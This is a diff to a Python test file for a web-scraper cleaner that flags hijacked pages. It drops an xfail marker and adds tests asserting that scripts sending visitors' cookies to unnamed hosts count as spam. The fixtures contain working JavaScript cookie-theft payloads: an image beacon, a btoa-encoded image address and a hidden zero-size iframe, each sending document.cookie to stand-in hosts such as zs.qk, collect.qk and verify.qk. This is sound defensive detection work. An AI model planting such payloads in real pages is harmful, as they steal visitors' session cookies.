@@ -1,12 +1,11 @@
 """What the run records every visitor getting alike, asked as an act by itself (v41 analysis §1 B5,
 B6, B9, §7.1): a frame a script writes off the screen or with no size, to a host the page names
-nowhere else (a traffic gate's counter: v41b rc41b-009/-010), and a request a script sends after
-reading document.cookie, carrying the page's address, to such a host (an XSS platform's
-``new Image().src``: rc41b-013; measured, not wired: behaviour.py's note on it). A visible written frame, a frame to a host the page links, and a
-counter beacon that reads no cookie stay clean."""
+nowhere else (a traffic gate's counter: v41b rc41b-009/-010), and the visitor's cookies sent to
+such a host, in whatever dress (an XSS platform's ``new Image().src``: rc41b-013; an image's
+address holding btoa(document.cookie); a hidden frame's). A visible written frame, a frame to a
+host the page links, a counter beacon that reads no cookie and a script sending one value of its
+own cookie stay clean."""
 from __future__ import annotations
-
-import pytest
 
 from scraper.clean import clean_page
 
@@ -68,8 +67,6 @@ BEACON = ("<script>(function(){(new Image()).src='http://zs.qk/index.php?do=api&
           "+'&cookie='+escape((function(){try{return document.cookie}catch(e){return ''}})());})();</script>")
 
 
-@pytest.mark.xfail(strict=True, reason="sb33 cookie-beacon reader measured, not wired (variant 065f29c): one dev page "
-                   "(rc41b-013) of one source shows the act, the acceptance rule asks two")
 def test_a_cookie_beacon_to_an_unnamed_host_is_spam():
     a = clean_page(_page(tail=BEACON), url=URL)
     assert a.hijacked and any("zs.qk" in f.evidence for f in a.findings)
@@ -85,3 +82,25 @@ def test_a_counter_beacon_that_reads_no_cookie_is_clean():
 def test_a_cookie_beacon_to_a_host_the_page_links_is_clean():
     a = clean_page(_page(tail=BEACON, links='<a href="http://www.zs.qk/">统计</a>'), url=URL)
     assert not a.hijacked
+
+
+def test_cookies_sent_away_in_base64_are_spam():
+    tail = ("<script>var i=document.createElement('img');i.src='https://collect.qk:8443/x?c='+btoa(document.cookie);"
+            "document.body.appendChild(i);</script>")
+    a = clean_page(_page(tail=tail), url=URL)
+    assert a.hijacked and any("collect.qk" in f.evidence for f in a.findings)
+
+
+def test_cookies_in_a_hidden_frame_address_are_spam():
+    tail = ('<script>(function(){var f=document.createElement("iframe");f.width=0;f.height=0;'
+            'f.style.display="none";f.src="https://verify.qk/411/"+encodeURI(document.cookie);'
+            'document.body.appendChild(f);})();</script>')
+    a = clean_page(_page(tail=tail), url=URL)
+    assert a.hijacked and any("verify.qk" in f.evidence for f in a.findings)
+
+
+def test_one_value_of_its_own_cookie_sent_to_a_counter_is_clean():
+    tail = ("<script>function getCookie(n){var m=document.cookie.match(new RegExp('(?:^|; )'+n+'=([^;]*)'));"
+            "return m?m[1]:'';}(new Image()).src='http://count.qk/c.gif?uid='+getCookie('_uid')"
+            "+'&u='+escape(location.href);</script>")
+    assert not clean_page(_page(tail=tail), url=URL).hijacked
